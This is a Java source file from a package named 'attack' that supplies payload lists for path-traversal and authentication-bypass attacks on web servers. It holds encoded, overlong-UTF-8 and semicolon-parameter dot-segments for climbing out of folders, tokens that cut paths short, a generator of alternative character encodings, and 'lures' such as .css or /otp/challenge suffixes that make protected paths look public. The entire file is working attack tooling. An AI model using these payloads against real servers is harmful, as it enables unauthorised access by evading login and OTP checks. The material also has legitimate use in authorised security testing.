package org.example.attack;

import static org.example.attack.Attack.utf8;

import java.util.ArrayList;
import java.util.List;

/** What is put between, before and behind the parts of a path. A char stands for a byte. */
final class Tokens {

  /** Nothing, for many readers of paths, or something that ends a path for some of them. */
  static final List<String> SPECKS =
      list(
          """
          . .. ... / // /. ./ /./ \\ /\\ ; ;x ;x=1 ;/ ;/x ;a;b=c,d /; /;x /;x=y/ ;.css ;x.css
          .; ..; ;%2e%2e ;jsessionid=AAAA ;JSESSIONID=AAAA ;jsessionid= ;v=1.0;jsessionid=../x
          %20 %20/ /%20 %09 %0a %0d %0d%0a %00 %00.css %0a.css %1f %7f %80 %85 %a0 %ad %ff %2e
          %2E %2e/ /%2e /%2e/ %252e %252e/ %2f %2F /%2f %252f %5c %5C /%5c %255c %3b %3bx
          %253b %3f %3fx %23 %23x %25 %2525 %25%32%65 %c0%ae %c0%ae/ %c0%af %c0%80 %c1%9c
          %e0%80%ae %e0%80%af %f0%80%80%ae %f8%80%80%80%ae %ef%bc%8f %ef%bc%8e %e2%88%95
          %e2%80%8b %e2%80%ae %ef%bb%bf %cc%81 %ed%a0%80 %f0%9f%94%91 %u002e %u002f %uff0e
          %uff0f %u0000 %u00 % %2 %zz %g0 %-1 %+2e 0x2e &#46; + * ~ ~1 $ | ^ ` {x} [x] <x> " '
          : ::$DATA :80 @ ! , & = ? ?x ?? ?/.. ?.css ?;.css ?%00 ?jsessionid=AAAA # #x #/..
          \u00fc \u00ff \u00c0\u00ae
          """,
          "\u0001", "\t", "\u000b", "\u007f", "\u0080", "\u00a0");

  /** Steps up out of a folder of an open path, each with what it goes down into first. */
  static final List<String> CLIMBS =
      list(
          """
          ../ .././ ..// /../ ..;/ ..;x/ ..;x=y/ ;/../ ;x/../ /;/../ x/../../ x/..;/..;/ ./../
          ..\\ ..\\/ \\..\\ /..\\ ..%2f ..%2F ..%252f ..%25252f ..%5c ..%5C ..%255c ..%c0%af
          ..%c1%9c ..%e0%80%af ..%ef%bc%8f ..%u002f ..%u2215 ..%00/ ..%20/ ..%09/ ..%0a/
          ..%0d/ ..%3b/ ..%3bx/ ..%23/ ..%3f/ ..%ff/ ..%2f..%2f %2e%2e/ %2E%2E/ %2e./ .%2e/
          .%2E/ %2e%2e%2f %2e%2e%5c %2e%2e;/ %2e%2e%3b/ %2e%2e;x/ %252e%252e/ %252e%252e%252f
          %25%32%65%25%32%65/ %25%32%65%25%32%65%25%32%66 %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af
          %c0%2e%c0%2e/ %e0%80%ae%e0%80%ae/ %f0%80%80%ae%f0%80%80%ae/ %u002e%u002e/
          %uff0e%uff0e/ %uff0e%uff0e%uff0f %ef%bc%8e%ef%bc%8e/ ....// ..././ ...;/ .../ ..../
          x%2f../../ x%2f..%2f..%2f x;/../../ x%00/../../ x%5c../../ x.css/../../
          x.css;/../../ x.css%2f..%2f..%2f #/../ ?/../ %23/../ %3f/../
          \u00c0\u00ae\u00c0\u00ae/ %2f../ %2f%2e%2e/ %5c../ %5c%2e%2e/ /%2f../ //../
          ///../../ ;/..;/ %3b/../ %2e/../ ./%2e%2e/
          """,
          " ../", "\t../", "..\u0080/");

  /** Specks for pairs: those that any container was seen to take for nothing or for an end. */
  static final List<String> FEW =
      list(
          """
          / /./ /x/../ /x/..;/ /x/%2e%2e/ /x/..%2f /x/..%5c /x\\..\\ ;x ;x=1/ /;x/ /%2e/ %2f
          %5c %252f %20 %00 %c0%af . ? %3b %23 ;.css
          """);

  /** What makes a closed path look like one that is open, at its end. */
  static List<String> lures(List<String> open) {
    List<String> lures =
        new ArrayList<>(
            List.of(
                ".css",
                ".js",
                ".html",
                ".json",
                "/x.css",
                "/.css",
                "/otp/challenge",
                ";/otp/challenge",
                "?/otp/challenge",
                "#/otp/challenge",
                "%00/otp/challenge",
                "%3b/otp/challenge",
                "%2fotp/challenge",
                "%23/otp/challenge",
                "/otp/assets/otp.css",
                ";/otp/assets/otp.css",
                "/index.html",
                "/login",
                ";login"));
    for (String folder : open) {
      for (String seam : List.of("/..", ";", ";/..", "/..;", "%2f..", "?", "#", "%00", "\\..")) {
        lures.add(seam + folder + "x");
      }
    }
    return lures;
  }

  /** Ways to write one char of a path. */
  static List<String> spellings(char c) {
    String hex = String.format("%02x", (int) c);
    String upper = String.format("%02X", (int) c);
    String overlong = String.format("%%%02x%%%02x", 0xc0 | c >> 6, 0x80 | c & 0x3f);
    String three = String.format("%%e0%%%02x%%%02x", 0x80 | c >> 6, 0x80 | c & 0x3f);
    String full = String.valueOf((char) (c + 0xfee0));
    return List.of(
        "%" + hex,
        "%" + upper,
        "%25" + hex,
        "%2525" + hex,
        "%%" + hex,
        "%u00" + hex,
        "%U00" + hex,
        overlong,
        three,
        utf8(full),
        percent(utf8(full)),
        String.valueOf((char) (c | 0x80)),
        "%" + Integer.toHexString(c | 0x80),
        c + "%00",
        c + percent(utf8("\u0301")));
  }

  /** The words of a text, and more that hold blanks. */
  private static List<String> list(String words, String... more) {
    List<String> all = new ArrayList<>(List.of(words.strip().split("\\s+")));
    all.addAll(List.of(more));
    return List.copyOf(all);
  }

  private static String percent(String bytes) {
    StringBuilder text = new StringBuilder();
    for (char c : bytes.toCharArray()) {
      text.append(String.format("%%%02x", (int) c));
    }
    return text.toString();
  }

  private Tokens() {}
}
